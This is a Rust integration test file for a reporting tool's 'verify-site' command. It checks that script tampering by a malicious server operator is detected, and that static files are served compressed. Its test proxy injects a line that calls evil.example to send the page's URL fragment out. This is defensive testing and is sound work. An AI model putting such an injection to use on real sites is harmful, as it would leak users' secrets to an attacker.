//! `meldkluis verify-site` against a real server: the genuine site passes;
//! a site whose operator changed one byte of one script fails, naming it.

mod common;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Command;

use common::{Server, make_vault};
use meldkluis::server::handlers::pages::{Encoding, Site};

fn verify(url: &str) -> (bool, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_meldkluis"))
        .args(["verify-site", url])
        .output()
        .unwrap();
    (
        output.status.success(),
        String::from_utf8_lossy(&output.stdout).into_owned()
            + &String::from_utf8_lossy(&output.stderr),
    )
}

/// A "malicious operator": a proxy in front of the real server that flips
/// one byte of /js/report.js.
fn tampering_proxy(upstream: u16) -> u16 {
    proxy(upstream, false, |path, response| {
        if path == "/js/report.js" {
            let body_start = response.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
            let at = body_start + (response.len() - body_start) / 2;
            response[at] ^= 0x01;
        }
    })
}

/// A subtler operator: the plain file is genuine, but what a browser gets
/// (brotli) decodes to a changed script — valid brotli, other bytes.
fn brotli_tampering_proxy(upstream: u16) -> u16 {
    proxy(upstream, true, |path, response| {
        let head_end = response.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
        let head = String::from_utf8_lossy(&response[..head_end]).to_ascii_lowercase();
        if path != "/js/report.js" || !head.contains("content-encoding: br") {
            return;
        }
        let mut script = Encoding::Brotli
            .decode(&response[head_end..], 1 << 24)
            .unwrap();
        script.extend_from_slice(b"\nfetch('https://evil.example/'+location.hash);\n");
        let body = Encoding::Brotli.encode(&script, false);
        let head: String = String::from_utf8_lossy(&response[..head_end])
            .lines()
            .filter(|l| !l.to_ascii_lowercase().starts_with("content-length"))
            .filter(|l| !l.is_empty())
            .map(|l| format!("{l}\r\n"))
            .collect();
        *response = format!("{head}content-length: {}\r\n\r\n", body.len()).into_bytes();
        response.extend_from_slice(&body);
    })
}

/// A proxy that hands each answer to `tamper` before passing it on;
/// `forward_encoding` passes the client's `Accept-Encoding` upstream.
fn proxy(upstream: u16, forward_encoding: bool, tamper: fn(&str, &mut Vec<u8>)) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for client in listener.incoming() {
            let Ok(mut client) = client else { continue };
            std::thread::spawn(move || {
                let mut request = Vec::new();
                let mut buffer = [0u8; 4096];
                while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                    match client.read(&mut buffer) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => request.extend_from_slice(&buffer[..n]),
                    }
                }
                let head = String::from_utf8_lossy(&request).into_owned();
                let path = head.split(' ').nth(1).unwrap_or("/").to_string();
                let accept = head
                    .lines()
                    .find(|l| l.to_ascii_lowercase().starts_with("accept-encoding:"))
                    .filter(|_| forward_encoding)
                    .map(|l| format!("{l}\r\n"))
                    .unwrap_or_default();
                let mut server = TcpStream::connect(("127.0.0.1", upstream)).unwrap();
                server
                    .write_all(
                        format!(
                            "GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n{accept}\r\n"
                        )
                        .as_bytes(),
                    )
                    .unwrap();
                let mut response = Vec::new();
                server.read_to_end(&mut response).unwrap();
                tamper(&path, &mut response);
                let _ = client.write_all(&response);
            });
        }
    });
    port
}

#[test]
fn genuine_site_passes_and_a_changed_script_is_named() {
    let dir = tempfile::tempdir().unwrap();
    let vault = make_vault(dir.path(), "vp-a");
    let server = Server::start_with_cards(&[("vp-a", vault.card.to_json())]);

    let (ok, output) = verify(&server.base);
    assert!(ok, "{output}");
    assert!(output.contains("all identical to this build"), "{output}");
    assert!(output.contains("ok       /vendor/age.js"));
    assert!(output.contains("ok       /melden"));

    let proxy = tampering_proxy(server.port);
    let (ok, output) = verify(&format!("http://127.0.0.1:{proxy}"));
    assert!(!ok);
    let differing: Vec<&str> = output
        .lines()
        .filter(|l| l.starts_with("DIFFERS"))
        .collect();
    assert_eq!(differing.len(), 1, "{output}");
    assert!(differing[0].contains("/js/report.js"));
    assert!(output.contains("1 of"), "{output}");

    let proxy = brotli_tampering_proxy(server.port);
    let (ok, output) = verify(&format!("http://127.0.0.1:{proxy}"));
    assert!(!ok, "{output}");
    let differing: Vec<&str> = output
        .lines()
        .filter(|l| l.starts_with("DIFFERS"))
        .collect();
    assert_eq!(differing.len(), 1, "{output}");
    assert!(differing[0].contains("/js/report.js"), "{output}");
    assert!(differing[0].contains("asked for br"), "{output}");

    // Plain HTTP to anything but this machine is refused: it proves nothing.
    let (ok, output) = verify("http://meldpunt.example.nl");
    assert!(!ok);
    assert!(output.contains("https://"), "{output}");
}

#[test]
fn site_manifest_lists_every_served_file() {
    let output = Command::new(env!("CARGO_BIN_EXE_meldkluis"))
        .arg("site-manifest")
        .output()
        .unwrap();
    assert!(output.status.success());
    let text = String::from_utf8(output.stdout).unwrap();
    for path in [
        "/",
        "/melden",
        "/en/report",
        "/vendor/age.js",
        "/js/protocol.js",
        "/css/site.css",
    ] {
        assert!(
            text.lines()
                .any(|l| l.ends_with(&format!("  {path}")) && l.len() == 64 + 2 + path.len()),
            "{path}"
        );
    }
}

/// Static files come compressed in the coding the browser accepts and
/// decode to exactly the bytes whose hashes the pages name; answers of the
/// API stay uncompressed; nothing is cached.
#[test]
fn static_files_are_served_compressed_and_decode_to_the_hashed_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let vault = common::make_vault_in_org(dir.path(), "vp-a", Some("bzk"));
    let server = Server::start_with_cards(&[("vp-a", vault.card.to_json())]);
    let site = Site::build().unwrap();
    let genuine: std::collections::BTreeMap<&str, &[u8]> = site.files().collect();

    for (accept, expected) in [
        (Some("gzip, deflate, br, zstd"), Some("br")),
        (Some("gzip"), Some("gzip")),
        (Some("br;q=0, gzip;q=1"), Some("gzip")),
        (Some("identity"), None),
        (None, None),
    ] {
        for path in [
            "/vendor/age.js",
            "/css/site.css",
            "/i18n/nl.json",
            "/melden",
            "/en/my-report",
        ] {
            let headers: Vec<(&str, &str)> =
                accept.map(|a| ("Accept-Encoding", a)).into_iter().collect();
            let answer = server.request_with("GET", path, &headers, b"");
            assert_eq!(answer.status, 200, "{path}");
            assert_eq!(
                answer.header("content-encoding"),
                expected,
                "{path} {accept:?}"
            );
            assert_eq!(answer.header("cache-control"), Some("no-store"), "{path}");
            assert_eq!(answer.header("vary"), Some("accept-encoding"), "{path}");
            let coding = match expected {
                Some("br") => Encoding::Brotli,
                Some("gzip") => Encoding::Gzip,
                _ => Encoding::Identity,
            };
            let decoded = coding.decode(&answer.body, 1 << 24).unwrap();
            assert_eq!(decoded, genuine[path], "{path} {accept:?}");
            if expected.is_some() && path == "/vendor/age.js" {
                assert!(
                    answer.body.len() * 3 < decoded.len(),
                    "{}",
                    answer.body.len()
                );
            }
        }
    }

    // A page under an organisation's prefix is compressed per request.
    let answer = server.request_with("GET", "/o/bzk/melden", &[("Accept-Encoding", "br")], b"");
    assert_eq!(answer.status, 200);
    assert_eq!(answer.header("content-encoding"), Some("br"));
    let page = String::from_utf8(Encoding::Brotli.decode(&answer.body, 1 << 24).unwrap()).unwrap();
    assert!(page.contains("src=\"/o/bzk/js/report.js\""), "{page}");
    let answer = server.request_with("GET", "/o/nobody/melden", &[("Accept-Encoding", "br")], b"");
    assert_eq!(answer.status, 404);

    // The API answers as it is, whatever the browser accepts.
    for path in ["/api/v1/counsellors", "/api/v1/limits", "/api/v1/pow"] {
        let answer = server.request_with("GET", path, &[("Accept-Encoding", "gzip, br")], b"");
        assert_eq!(answer.status, 200, "{path}");
        assert_eq!(answer.header("content-encoding"), None, "{path}");
        assert_eq!(answer.header("cache-control"), Some("no-store"), "{path}");
        answer.json();
    }
    // The icon (svg, text) too; HEAD names the same coding with no body.
    let answer = server.request_with("HEAD", "/vendor/age.js", &[("Accept-Encoding", "br")], b"");
    assert_eq!(answer.status, 200);
    assert_eq!(answer.header("content-encoding"), Some("br"));
    assert!(answer.body.is_empty());
}
